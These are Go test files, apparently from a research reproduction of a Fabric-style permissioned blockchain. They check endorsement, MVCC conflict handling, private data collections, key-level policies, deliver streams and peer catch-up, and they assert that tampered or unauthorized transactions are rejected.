// checks that the pipeline (endorsement, ordering, validation, commit)
// stays consistent: all peers agree on chain content and state.
func TestConcurrentClients(t *testing.T) {
	n := newTestNet(t)
	const workers = 4
	const perWorker = 10

	var wg sync.WaitGroup
	errs := make(chan error, workers*perWorker)
	orgs := n.Orgs()
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			cl := n.Gateway(orgs[w%len(orgs)])
			for i := 0; i < perWorker; i++ {
				key := string(rune('a' + w))
				if _, err := submitTx(cl, n.Peers(), "asset", "set",
					[]string{key, key}, nil); err != nil {
					errs <- err
					return
				}
			}
		}(w)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}

	// Chain heights and content agree across peers.
	ref := n.Peer("org1").Ledger()
	if ref.Height() != workers*perWorker {
		t.Fatalf("height = %d, want %d", ref.Height(), workers*perWorker)
	}
	for _, p := range n.Peers() {
		if p.Ledger().Height() != ref.Height() {
			t.Fatalf("%s height %d != %d", p.Name(), p.Ledger().Height(), ref.Height())
		}
		if p.Ledger().VerifyChain() != -1 {
			t.Fatalf("%s chain broken", p.Name())
		}
		if string(refHash(ref)) != string(refHash(p.Ledger())) {
			t.Fatalf("%s chain diverged", p.Name())
		}
	}
}

func refHash(s *ledger.BlockStore) []byte { return s.LastHash() }

// TestConcurrentConflictingWrites runs racing read-modify-write
// transactions on one key: MVCC must serialize them — every committed
// add is reflected exactly once, conflicting ones are marked invalid.
func TestConcurrentConflictingWrites(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"ctr", "0"}, nil); err != nil {
		t.Fatal(err)
	}

	const attempts = 12
	valid := 0
	var mu sync.Mutex
	var wg sync.WaitGroup
	for i := 0; i < attempts; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			res, err := submitTx(cl, n.Peers(), "asset", "add", []string{"ctr", "1"}, nil)
			if err != nil {
				return // endorsement raced a commit; acceptable
			}
			if res.Code == ledger.Valid {
				mu.Lock()
				valid++
				mu.Unlock()
			}
		}()
	}
	wg.Wait()

	// The committed counter equals exactly the number of VALID adds.
	v, _, _ := n.Peer("org2").WorldState().Get("asset", "ctr")
	got := string(v)
	want := itoa(valid)
	if got != want {
		t.Fatalf("counter = %s, valid adds = %d", got, valid)
	}
	if valid == 0 {
		t.Fatal("no add committed at all")
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var digits []byte
	for n > 0 {
		digits = append([]byte{byte('0' + n%10)}, digits...)
		n /= 10
	}
	return string(digits)
}

// TestMetricsCounters checks the peer and orderer operational counters.
func TestMetricsCounters(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"k", "v"}, nil); err != nil {
		t.Fatal(err)
	}
	// A refused proposal.
	if _, err := submitTx(cl, []*peer.Peer{n.Peer("org3")},
		"asset", "readPrivate", []string{"k"}, nil); err == nil {
		t.Fatal("expected refusal")
	}

	m := n.Peer("org1").Metrics()
	if m[metrics.ProposalsEndorsed] == 0 {
		t.Error("no endorsements counted")
	}
	if m[metrics.BlocksCommitted] == 0 {
		t.Error("no blocks counted")
	}
	if m[metrics.TxValidPrefix+ledger.Valid.String()] == 0 {
		t.Error("no valid txs counted")
	}
	m3 := n.Peer("org3").Metrics()
	if m3[metrics.ProposalsRefused] == 0 {
		t.Error("refused proposal not counted")
	}

	om := n.Orderer.Metrics()
	if om[metrics.BlocksOrdered] == 0 || om[metrics.TxOrdered] == 0 {
		t.Errorf("orderer metrics = %v", om)
	}
}
