package network

import (
	"errors"
	"strings"
	"sync"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/core"
	"repro/internal/gateway"
	"repro/internal/ledger"
	"repro/internal/peer"
)

func TestEndorsementMismatchDetected(t *testing.T) {
	n := newTestNet(t)
	// org2's peer returns a different payload for "divergent": the
	// client must refuse to assemble a transaction.
	n.Peer("org2").InstallChaincode("asset", chaincode.Router{
		"divergent": func(stub chaincode.Stub) ledger.Response {
			return chaincode.SuccessResponse([]byte("B"))
		},
	})
	n.Peer("org1").InstallChaincode("asset", chaincode.Router{
		"divergent": func(stub chaincode.Stub) ledger.Response {
			return chaincode.SuccessResponse([]byte("A"))
		},
	})
	cl := n.Gateway("org1")
	_, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "divergent", nil, nil,
	)
	if !errors.Is(err, gateway.ErrEndorsementMismatch) {
		t.Fatalf("err = %v, want ErrEndorsementMismatch", err)
	}
}

func TestNoEndorsersRejected(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	_, err := submitTx(cl, nil, "asset", "set", []string{"k", "v"}, nil)
	if !errors.Is(err, gateway.ErrNoEndorsers) {
		t.Fatalf("err = %v, want ErrNoEndorsers", err)
	}
}

func TestChaincodeErrorSurfacesToClient(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	_, err := submitTx(cl, n.Peers(), "asset", "get", []string{"missing"}, nil)
	if err == nil {
		t.Fatal("missing-key read produced a transaction")
	}
	_, err = submitTx(cl, n.Peers(), "asset", "no-such-function", nil, nil)
	if err == nil {
		t.Fatal("unknown function produced a transaction")
	}
	_, err = submitTx(cl, n.Peers(), "no-such-chaincode", "f", nil, nil)
	if err == nil {
		t.Fatal("unknown chaincode produced a transaction")
	}
}

// TestFeature2EndorserDowngradeDetected: an endorser that claims Feature 2
// but signs something other than the recomputed PR_Hash is rejected by the
// client.
func TestFeature2SignatureChecked(t *testing.T) {
	n := newTestNet(t)
	n.SetSecurity(core.Feature2Only())
	cl := n.Gateway("org1")

	// Honest flow works (also exercised in attacks tests).
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	); err != nil {
		t.Fatalf("feature2 write: %v", err)
	}

	// Interpose: corrupt the plaintext form so PR_Hash recomputation
	// fails.
	prop, _ := cl.NewProposal("asset", "readPrivate", []string{"k1"}, nil)
	resp, err := n.Peer("org1").ProcessProposal(prop)
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.PlainPayload) == 0 {
		t.Fatal("feature2 endorser returned no plaintext form")
	}
	resp.PlainPayload[len(resp.PlainPayload)/3] ^= 1
	// The client-side verification in Endorse cannot be invoked on a
	// pre-built response directly; reproduce its check: recompute the
	// hash form and compare.
	prp, err := ledger.ParseProposalResponsePayload(resp.PlainPayload)
	if err == nil {
		recomputed := prp.HashedPayloadForm().Bytes()
		if string(recomputed) == string(resp.Payload) {
			t.Fatal("tampered PR_Ori still hashes to signed PR_Hash")
		}
	}
}

func TestEvaluateDoesNotGrowLedger(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"k", "v"}, nil); err != nil {
		t.Fatal(err)
	}
	before := n.Peer("org1").Ledger().Height()
	if _, err := evalTx(cl, n.Peer("org1"), "asset", "get", "k"); err != nil {
		t.Fatal(err)
	}
	if n.Peer("org1").Ledger().Height() != before {
		t.Fatal("evaluate created a block")
	}
}

func TestCommitListenerNotified(t *testing.T) {
	n := newTestNet(t)
	var gotTx string
	var gotCode ledger.ValidationCode
	n.Peer("org2").OnCommit(func(blockNum uint64, txID string, code ledger.ValidationCode) {
		gotTx, gotCode = txID, code
	})
	cl := n.Gateway("org1")
	res, err := submitTx(cl, n.Peers(), "asset", "set", []string{"k", "v"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if gotTx != res.TxID || gotCode != ledger.Valid {
		t.Fatalf("listener saw (%s, %v)", gotTx, gotCode)
	}
}

func TestSubmitWithRetryResolvesConflicts(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"ctr", "0"}, nil); err != nil {
		t.Fatal(err)
	}
	// Race several retried adds; with retries every one eventually
	// commits exactly once.
	var wg sync.WaitGroup
	var mu sync.Mutex
	committed := 0
	for i := 0; i < 6; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			res, err := submitRetry(cl, n.Peers(), "asset", "add", []string{"ctr", "1"}, nil, 30)
			if err != nil {
				return
			}
			if res.Code == ledger.Valid {
				mu.Lock()
				committed++
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	if committed == 0 {
		t.Fatal("no retried add committed")
	}
	v, _, _ := n.Peer("org1").WorldState().Get("asset", "ctr")
	want := committed
	got := 0
	for _, ch := range string(v) {
		got = got*10 + int(ch-'0')
	}
	if got != want {
		t.Fatalf("counter = %d, committed = %d", got, want)
	}
}

func TestPanickingChaincodeIsolated(t *testing.T) {
	n := newTestNet(t)
	n.Peer("org1").InstallChaincode("asset", chaincode.Router{
		"boom": func(stub chaincode.Stub) ledger.Response {
			panic("malicious crash")
		},
	})
	cl := n.Gateway("org1")
	_, err := submitTx(cl, []*peer.Peer{n.Peer("org1")}, "asset", "boom", nil, nil)
	if err == nil {
		t.Fatal("panicking chaincode produced an endorsement")
	}
	if !strings.Contains(err.Error(), "panicked") {
		t.Fatalf("err = %v", err)
	}
	// The peer survives and keeps serving.
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"k", "v"}, nil); err == nil {
		t.Fatal("peer state broken: honest tx should fail only because org1 now runs the boom-only chaincode")
	}
}
