package network

import (
	"context"
	"testing"

	"repro/internal/core"
	"repro/internal/deliver"
	"repro/internal/gateway"
	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/service"
)

// TestDeliverStatusMVCCConflict: two transactions endorsed against the
// same state, ordered back to back — the commit-status stream reports
// VALID for the first and MVCC_READ_CONFLICT (with detail) for the
// second.
func TestDeliverStatusMVCCConflict(t *testing.T) {
	n := newTestNet(t)
	gw := n.Gateway("org1")
	ctx := context.Background()

	if _, err := gw.Network("c1").Contract("asset").Submit(ctx, "set", gateway.WithArguments("k", "1")); err != nil {
		t.Fatal(err)
	}

	sub := n.Peer("org1").Deliver().SubscribeLive()
	defer sub.Close()

	// Endorse both increments before ordering either: the second reads a
	// version the first invalidates.
	endorse := func() *ledger.Transaction {
		prop, err := gw.NewProposal("asset", "add", []string{"k", "1"}, nil)
		if err != nil {
			t.Fatal(err)
		}
		tx, _, err := gw.EndorseProposal(ctx, prop, service.AsEndorsers(n.Peers()))
		if err != nil {
			t.Fatal(err)
		}
		return tx
	}
	tx1, tx2 := endorse(), endorse()
	res1, err := gw.SubmitAssembled(ctx, tx1, nil)
	if err != nil {
		t.Fatal(err)
	}
	res2, err := gw.SubmitAssembled(ctx, tx2, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res1.Code != ledger.Valid {
		t.Fatalf("first tx = %v", res1.Code)
	}
	if res2.Code != ledger.MVCCConflict || res2.Detail == "" {
		t.Fatalf("second tx = %v (%q)", res2.Code, res2.Detail)
	}

	// The raw stream carries the same codes, in commit order.
	st1, err := sub.WaitTxStatus(ctx, tx1.TxID)
	if err != nil {
		t.Fatal(err)
	}
	st2, err := sub.WaitTxStatus(ctx, tx2.TxID)
	if err != nil {
		t.Fatal(err)
	}
	if st1.Code != ledger.Valid || st2.Code != ledger.MVCCConflict {
		t.Fatalf("stream codes = %v, %v", st1.Code, st2.Code)
	}
}

// TestDeliverStatusPolicyFailure: the stream marks a minority-endorsed
// transaction ENDORSEMENT_POLICY_FAILURE at every peer.
func TestDeliverStatusPolicyFailure(t *testing.T) {
	n := newTestNet(t)
	sub := n.Peer("org3").Deliver().SubscribeLive()
	defer sub.Close()

	res, err := n.Gateway("org1").Network("c1").Contract("asset").Submit(
		context.Background(), "set",
		gateway.WithArguments("k", "v"),
		gateway.WithEndorsers(n.Peer("org1")))
	if err != nil {
		t.Fatal(err)
	}
	st, err := sub.WaitTxStatus(context.Background(), res.TxID)
	if err != nil {
		t.Fatal(err)
	}
	if st.Code != ledger.EndorsementPolicyFailure || st.Detail == "" {
		t.Fatalf("status = %v (%q)", st.Code, st.Detail)
	}
}

// TestDeliverStatusMissingPrivateData: a member peer cut off from gossip
// commits a private write without the original data; its commit-status
// event carries the missing-collection marker, while the serving member's
// does not.
func TestDeliverStatusMissingPrivateData(t *testing.T) {
	n := newTestNet(t)
	ctx := context.Background()
	isolated := n.Peer("org2").Deliver().SubscribeLive()
	defer isolated.Close()
	serving := n.Peer("org1").Deliver().SubscribeLive()
	defer serving.Close()

	n.Gossip.Isolate("peer0.org2", true)
	defer n.Gossip.Isolate("peer0.org2", false)

	res, err := n.Gateway("org1").Network("c1").Contract("asset").Submit(
		ctx, "setPrivate",
		gateway.WithArguments("k1", "12"),
		gateway.WithEndorsers(n.Peer("org1"), n.Peer("org3")))
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}
	if len(res.MissingCollections) != 0 {
		t.Fatalf("serving member reported missing %v", res.MissingCollections)
	}

	st, err := isolated.WaitTxStatus(ctx, res.TxID)
	if err != nil {
		t.Fatal(err)
	}
	if st.Code != ledger.Valid {
		t.Fatalf("isolated code = %v", st.Code)
	}
	if len(st.MissingCollections) != 1 || st.MissingCollections[0] != "pdc1" {
		t.Fatalf("isolated missing = %v", st.MissingCollections)
	}
	st, err = serving.WaitTxStatus(ctx, res.TxID)
	if err != nil {
		t.Fatal(err)
	}
	if len(st.MissingCollections) != 0 {
		t.Fatalf("serving missing = %v", st.MissingCollections)
	}
}

// TestDeliverReplayFromCheckpointAfterRestart: a subscriber checkpoints
// its position, the peer restarts from disk, and a new subscription from
// the checkpoint observes every block exactly once — the replayed gap
// from the block store first, then live blocks.
func TestDeliverReplayFromCheckpointAfterRestart(t *testing.T) {
	n := newTestNet(t)
	dir := t.TempDir()

	mkPeer := func() *peer.Peer {
		id, err := n.CA("org2").Issue("peer8.org2", "peer")
		if err != nil {
			t.Fatal(err)
		}
		p, err := peer.NewPersistent(peer.Config{
			Identity:   id,
			Channel:    n.Channel,
			Gossip:     n.Gossip,
			Security:   core.OriginalFabric(),
			PersistDir: dir,
		})
		if err != nil {
			t.Fatal(err)
		}
		if err := p.ApproveDefinition(n.Peer("org2").Definition("asset")); err != nil {
			t.Fatal(err)
		}
		return p
	}

	durable := mkPeer()
	n.Orderer.RegisterDelivery(func(b *ledger.Block) { _ = durable.CommitBlock(b) })

	contract := n.Gateway("org1").Network("c1").Contract("asset")
	ctx := context.Background()
	for _, key := range []string{"a", "b"} {
		if _, err := contract.Submit(ctx, "set", gateway.WithArguments(key, "1")); err != nil {
			t.Fatal(err)
		}
	}

	// First subscriber consumes blocks 0..1 and checkpoints.
	cp := deliver.NewCheckpoint(0)
	seen := make(map[uint64]int)
	sub, err := durable.Deliver().Subscribe(cp.Next())
	if err != nil {
		t.Fatal(err)
	}
	for len(seen) < 2 {
		ev, err := sub.Recv(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if be, ok := ev.(*deliver.BlockEvent); ok {
			seen[be.Number]++
			cp.Observe(be.Number)
		}
	}
	sub.Close()
	if cp.Next() != 2 {
		t.Fatalf("checkpoint = %d", cp.Next())
	}

	// The chain grows one block while the durable peer is "down".
	if _, err := contract.Submit(ctx, "set", gateway.WithArguments("c", "1")); err != nil {
		t.Fatal(err)
	}

	// Restart over the same directory and resume from the checkpoint:
	// block 2 arrives as a store replay, block 3 live.
	restarted := mkPeer()
	if err := restarted.Restore(); err != nil {
		t.Fatal(err)
	}
	n.Orderer.RegisterDelivery(func(b *ledger.Block) { _ = restarted.CommitBlock(b) })
	sub2, err := restarted.Deliver().Subscribe(cp.Next())
	if err != nil {
		t.Fatal(err)
	}
	defer sub2.Close()

	if _, err := contract.Submit(ctx, "set", gateway.WithArguments("d", "1")); err != nil {
		t.Fatal(err)
	}
	for cp.Next() < 4 {
		ev, err := sub2.Recv(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if be, ok := ev.(*deliver.BlockEvent); ok {
			seen[be.Number]++
			cp.Observe(be.Number)
			if wantReplay := be.Number == 2; be.Replayed != wantReplay {
				t.Fatalf("block %d replayed = %v", be.Number, be.Replayed)
			}
		}
	}

	for num := uint64(0); num < 4; num++ {
		if seen[num] != 1 {
			t.Fatalf("block %d observed %d times, want exactly once (%v)", num, seen[num], seen)
		}
	}
}
