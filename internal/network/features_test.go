package network

import (
	"strings"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/pvtdata"
)

// featureContract exercises the extension surface: range scans,
// key-level validation parameters and implicit collections.
func featureContract() chaincode.Router {
	return chaincode.Router{
		"set": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if err := stub.PutState(args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		"scan": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			kvs, err := stub.GetStateByRange(args[0], args[1])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			var keys []string
			for _, kv := range kvs {
				keys = append(keys, kv.Key)
			}
			return chaincode.SuccessResponse([]byte(strings.Join(keys, ",")))
		},
		"lock": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if err := stub.SetStateValidationParameter(args[0], args[1]); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		"policyOf": func(stub chaincode.Stub) ledger.Response {
			spec, err := stub.GetStateValidationParameter(stub.Args()[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse([]byte(spec))
		},
		"putImplicit": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			coll := pvtdata.ImplicitCollectionPrefix + stub.PeerOrg()
			if err := stub.PutPrivateData(coll, args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		"putImplicitFor": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args() // (targetOrg, key, value)
			coll := pvtdata.ImplicitCollectionPrefix + args[0]
			if err := stub.PutPrivateData(coll, args[1], []byte(args[2])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		"getImplicit": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			coll := pvtdata.ImplicitCollectionPrefix + stub.PeerOrg()
			value, err := stub.GetPrivateData(coll, args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(value)
		},
		"getImplicitFor": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args() // (targetOrg, key)
			coll := pvtdata.ImplicitCollectionPrefix + args[0]
			value, err := stub.GetPrivateData(coll, args[1])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(value)
		},
	}
}

func newFeatureNet(t *testing.T) *Network {
	t.Helper()
	n, err := New(Options{Orgs: []string{"org1", "org2", "org3"}, Seed: 31})
	if err != nil {
		t.Fatal(err)
	}
	def := &chaincode.Definition{Name: "feat", Version: "1.0"}
	if err := n.DeployChaincode(def, featureContract()); err != nil {
		t.Fatal(err)
	}
	return n
}

func TestRangeQueryAndPhantomProtection(t *testing.T) {
	n := newFeatureNet(t)
	cl := n.Gateway("org1")
	for _, k := range []string{"a1", "a2", "b1"} {
		if _, err := submitTx(cl, n.Peers(), "feat", "set", []string{k, "v"}, nil); err != nil {
			t.Fatal(err)
		}
	}

	// Plain scan works and observes the right keys.
	res, err := submitTx(cl, n.Peers(), "feat", "scan", []string{"a", "b"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid || string(res.Payload) != "a1,a2" {
		t.Fatalf("scan = %q (%v)", res.Payload, res.Code)
	}

	// Phantom: endorse a scan, insert a new key into the range before
	// ordering, then order — the transaction must be invalidated.
	prop, _ := cl.NewProposal("feat", "scan", []string{"a", "b"}, nil)
	tx, _, err := endorseProp(cl, prop, n.Peers())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := submitTx(cl, n.Peers(), "feat", "set", []string{"a15", "phantom"}, nil); err != nil {
		t.Fatal(err)
	}
	out, err := orderTx(cl, tx)
	if err != nil {
		t.Fatal(err)
	}
	if out.Code != ledger.MVCCConflict {
		t.Fatalf("phantom scan code = %v, want MVCC_READ_CONFLICT", out.Code)
	}

	// Update of an existing key in the range also invalidates.
	prop, _ = cl.NewProposal("feat", "scan", []string{"a", "b"}, nil)
	tx, _, err = endorseProp(cl, prop, n.Peers())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := submitTx(cl, n.Peers(), "feat", "set", []string{"a1", "updated"}, nil); err != nil {
		t.Fatal(err)
	}
	out, err = orderTx(cl, tx)
	if err != nil {
		t.Fatal(err)
	}
	if out.Code != ledger.MVCCConflict {
		t.Fatalf("updated-range scan code = %v, want MVCC_READ_CONFLICT", out.Code)
	}
}

func TestKeyLevelEndorsementPolicy(t *testing.T) {
	n := newFeatureNet(t)
	cl := n.Gateway("org1")

	// Create the key, then lock it to AND(org1.peer, org2.peer).
	if _, err := submitTx(cl, n.Peers(), "feat", "set", []string{"locked", "1"}, nil); err != nil {
		t.Fatal(err)
	}
	res, err := submitTx(cl, n.Peers(), "feat", "lock",
		[]string{"locked", "AND(org1.peer, org2.peer)"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("lock tx = %v", res.Code)
	}
	// The parameter is readable.
	spec, err := evalTx(cl, n.Peer("org1"), "feat", "policyOf", "locked")
	if err != nil || string(spec) != "AND(org1.peer, org2.peer)" {
		t.Fatalf("policyOf = %q, %v", spec, err)
	}

	// A write endorsed by org1+org2 satisfies the key-level policy.
	res, err = submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"feat", "set", []string{"locked", "2"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("authorized write = %v", res.Code)
	}

	// org1+org3 clears MAJORITY but NOT the key-level policy: rejected.
	// (Without key-level validation this would commit — the same class
	// of misuse the paper's write injection exploits.)
	prop, _ := cl.NewProposal("feat", "set", []string{"locked", "666"}, nil)
	tx, _, err := endorseProp(cl, prop, []*peer.Peer{n.Peer("org1"), n.Peer("org3")})
	if err != nil {
		t.Fatal(err)
	}
	out, err := orderTx(cl, tx)
	if err != nil {
		t.Fatal(err)
	}
	if out.Code != ledger.EndorsementPolicyFailure {
		t.Fatalf("unauthorized write = %v, want ENDORSEMENT_POLICY_FAILURE", out.Code)
	}
	if v, _, _ := n.Peer("org2").WorldState().Get("feat", "locked"); string(v) != "2" {
		t.Fatalf("locked key = %q, want 2", v)
	}

	// Unlocked keys still follow the chaincode-level policy.
	res, err = submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"feat", "set", []string{"free", "1"}, nil)
	if err != nil || res.Code != ledger.Valid {
		t.Fatalf("free key write: %v %v", res, err)
	}

	// Re-locking a locked key is governed by the key-level policy too.
	prop, _ = cl.NewProposal("feat", "lock", []string{"locked", "OR(org3.peer)"}, nil)
	tx, _, err = endorseProp(cl, prop, []*peer.Peer{n.Peer("org1"), n.Peer("org3")})
	if err != nil {
		t.Fatal(err)
	}
	out, err = orderTx(cl, tx)
	if err != nil {
		t.Fatal(err)
	}
	if out.Code != ledger.EndorsementPolicyFailure {
		t.Fatalf("policy hijack = %v, want ENDORSEMENT_POLICY_FAILURE", out.Code)
	}
}

func TestImplicitCollections(t *testing.T) {
	n := newFeatureNet(t)
	cl := n.Gateway("org1")

	// org1 writes into its implicit collection via its own peer.
	res, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1")},
		"feat", "putImplicit", []string{"k", "mine"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("implicit write = %v", res.Code)
	}

	// The original lives only at org1; hashes everywhere.
	coll := pvtdata.ImplicitCollectionPrefix + "org1"
	if v, _, ok := n.Peer("org1").PvtStore().GetPrivate("feat", coll, "k"); !ok || string(v) != "mine" {
		t.Fatalf("org1 implicit data = %q %v", v, ok)
	}
	for _, org := range []string{"org2", "org3"} {
		if _, _, ok := n.Peer(org).PvtStore().GetPrivate("feat", coll, "k"); ok {
			t.Fatalf("%s holds org1's implicit data", org)
		}
		if _, _, ok := n.Peer(org).PvtStore().GetPrivateHash("feat", coll, "k"); !ok {
			t.Fatalf("%s lacks the hash", org)
		}
	}

	// org1 reads it back.
	payload, err := evalTx(cl, n.Peer("org1"), "feat", "getImplicit", "k")
	if err != nil || string(payload) != "mine" {
		t.Fatalf("implicit read = %q, %v", payload, err)
	}

	// A client of another org cannot write into org1's implicit
	// collection (MemberOnlyWrite), regardless of which peer endorses.
	org2cl := n.Gateway("org2")
	prop, _ := org2cl.NewProposal("feat", "putImplicitFor", []string{"org1", "k", "theirs"}, nil)
	_, _, err = endorseProp(org2cl, prop, []*peer.Peer{n.Peer("org2")})
	if err == nil || !strings.Contains(err.Error(), "member-only write") {
		t.Fatalf("foreign implicit write: %v", err)
	}
	// And cannot read it either (MemberOnlyRead) — the implicit
	// collection is fully private to its org.
	_, err = evalTx(org2cl, n.Peer("org1"), "feat", "getImplicitFor", "org1", "k")
	if err == nil {
		t.Fatal("foreign implicit read succeeded")
	}
}

func TestMemberOnlyWriteOnExplicitCollection(t *testing.T) {
	n, err := New(Options{Orgs: []string{"org1", "org2", "org3"}, Seed: 33})
	if err != nil {
		t.Fatal(err)
	}
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:            "pdc1",
			MemberPolicy:    "OR(org1.member, org2.member)",
			MaxPeerCount:    3,
			MemberOnlyWrite: true,
		}},
	}
	if err := n.DeployChaincode(def, testPDCImpl()); err != nil {
		t.Fatal(err)
	}

	// A member client writes fine.
	cl := n.Gateway("org1")
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k", "12"}, nil); err != nil {
		t.Fatal(err)
	}

	// A non-member client is rejected at endorsement — even by a
	// non-member peer, since the check is on the creator.
	cl3 := n.Gateway("org3")
	prop, _ := cl3.NewProposal("asset", "setPrivate", []string{"k", "5"}, nil)
	if _, _, err := endorseProp(cl3, prop, []*peer.Peer{n.Peer("org3")}); err == nil {
		t.Fatal("non-member client wrote a member-only-write collection")
	}
}
