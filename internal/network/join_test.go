package network

import (
	"testing"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/pvtdata"
)

func TestMultiPeerOrgGossipWithinOrg(t *testing.T) {
	n, err := New(Options{
		Orgs:        []string{"org1", "org2", "org3"},
		PeersPerOrg: 2,
		Seed:        51,
	})
	if err != nil {
		t.Fatal(err)
	}
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:              "pdc1",
			MemberPolicy:      "OR(org1.member, org2.member)",
			RequiredPeerCount: 1,
			MaxPeerCount:      4,
		}},
	}
	if err := n.DeployChaincode(def, testPDCImpl()); err != nil {
		t.Fatal(err)
	}
	if got := len(n.Peers()); got != 6 {
		t.Fatalf("peers = %d, want 6", got)
	}
	if got := len(n.OrgPeers("org1")); got != 2 {
		t.Fatalf("org1 peers = %d, want 2", got)
	}

	// Endorse via the anchor peers only; the second peers of each
	// member org must still receive the private data (via gossip
	// dissemination) and commit it.
	cl := n.Gateway("org1")
	res, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k1", "12"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}
	for _, name := range []string{"peer0.org1", "peer1.org1", "peer0.org2", "peer1.org2"} {
		p := n.PeerNamed(name)
		if v, _, ok := p.PvtStore().GetPrivate("asset", "pdc1", "k1"); !ok || string(v) != "12" {
			t.Errorf("%s: private data = %q %v", name, v, ok)
		}
	}
	for _, name := range []string{"peer0.org3", "peer1.org3"} {
		if _, _, ok := n.PeerNamed(name).PvtStore().GetPrivate("asset", "pdc1", "k1"); ok {
			t.Errorf("%s: non-member holds private data", name)
		}
	}
}

func TestLateJoiningPeerCatchesUp(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")

	// Build history: public writes, a PDC write and an invalid tx.
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"a", "1"}, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k1", "12"}, nil); err != nil {
		t.Fatal(err)
	}
	prop, _ := cl.NewProposal("asset", "set", []string{"b", "2"}, nil)
	tx, _, err := endorseProp(cl, prop, []*peer.Peer{n.Peer("org1")}) // minority
	if err != nil {
		t.Fatal(err)
	}
	if _, err := orderTx(cl, tx); err != nil {
		t.Fatal(err)
	}

	// A new org2 peer joins and replays.
	joined, err := n.JoinPeer("org2", "peer9.org2", func(p *peer.Peer) error {
		if err := p.ApproveDefinition(n.Peer("org2").Definition("asset")); err != nil {
			return err
		}
		merged := contracts.NewPublicAsset()
		for name, fn := range contracts.NewPDC(contracts.PDCOptions{
			Collection: "pdc1", Constraint: contracts.MinValue(10),
		}) {
			merged[name] = fn
		}
		p.InstallChaincode("asset", merged)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}

	// Chain height and state match the anchor peer.
	anchor := n.Peer("org2")
	if joined.Ledger().Height() != anchor.Ledger().Height() {
